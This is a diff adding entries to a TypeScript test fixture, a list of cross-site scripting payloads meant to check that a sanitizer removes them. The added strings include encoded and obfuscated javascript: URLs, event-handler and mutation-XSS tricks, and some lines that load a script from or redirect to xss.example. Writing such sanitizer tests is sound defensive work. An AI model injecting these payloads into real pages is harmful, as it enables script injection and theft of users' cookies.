@@ -3,7 +3,7 @@
  * tags in every disguise, event handlers, javascript:/vbscript:/data: URLs encoded with entities, tabs, newlines and
  * control characters, malformed and unclosed tags, SVG and MathML, CSS expressions and url(), meta refresh, base,
  * frames, objects, forms, and mutation-XSS shapes that change meaning when re-parsed. Every one calls `alert`, loads
- * something, or both; none may survive sanitizing.
+ * something, or both; none may survive sanitizing. One list for the server's sanitizer, the elements and end-to-end.
  */
 export const XSS_PAYLOADS: readonly string[] = [
   `<script>alert('XSS')</script>`,
@@ -90,4 +90,39 @@ export const XSS_PAYLOADS: readonly string[] = [
   `"><script>alert(1)</script>`,
   `'><img src=x onerror=alert(1)>`,
   `<a href="java\u0000script:alert(1)">nul</a>`.replace('\u0000', '&#0;'),
+  '<script>alert(1)</script>',
+  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">clic</a>',
+  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">clic</a>',
+  '<a href="jav\tascript:alert(\'XSS\');">tab</a>',
+  '<a href="jav&#x09;ascript:alert(\'XSS\');">encoded tab</a>',
+  '<a href="jav&#x0A;ascript:alert(\'XSS\');">newline</a>',
+  '<a href=" &#14;  javascript:alert(\'XSS\');">spaces</a>',
+  "<BODY ONLOAD=alert('XSS')>",
+  '<BGSOUND SRC="javascript:alert(\'XSS\');">',
+  '<STYLE>@im\\port\'\\ja\\vasc\\ript:alert("XSS")\';</STYLE>',
+  '<p style="background-image: url(javascript:alert(\'XSS\'))">style</p>',
+  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
+  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
+  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
+  '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><tr><TD BACKGROUND="javascript:alert(\'XSS\')">cell</td></tr></TABLE>',
+  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">div</DIV>',
+  '<DIV STYLE="width: expression(alert(\'XSS\'));">div</DIV>',
+  '<SCRIPT a=">" SRC="https://xss.example/xss.js"></SCRIPT>',
+  '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="https://xss.example/xss.js"></SCRIPT>',
+  '<A HREF="javascript:document.location=\'https://xss.example/\'">XSS</A>',
+  '<a href="vbscript:msgbox(1)">vb</a>',
+  '<form><button formaction="javascript:alert(1)">go</button></form>',
+  '<input onfocus=alert(1) autofocus>',
+  '<marquee onstart=alert(1)>m</marquee>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
+  '<p title="&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;">attr</p>',
+  '<isindex type=image src=1 onerror=alert(1)>',
+  '<object data="javascript:alert(1)">',
+  '<img src="x" onerror="print()">',
+  '<div onpointerenter="confirm(1)">pointer</div>',
+  '<!--<img src="--><img src=x onerror=prompt(1)//">',
+  '<a href="https://example.org" onclick="alert(1)">ok link, bad handler</a>',
+  '<h1 onmouseover=alert(1)>titre</h1>',
+  '<td colspan="2 onmouseover=alert(1)">cell</td>',
 ];
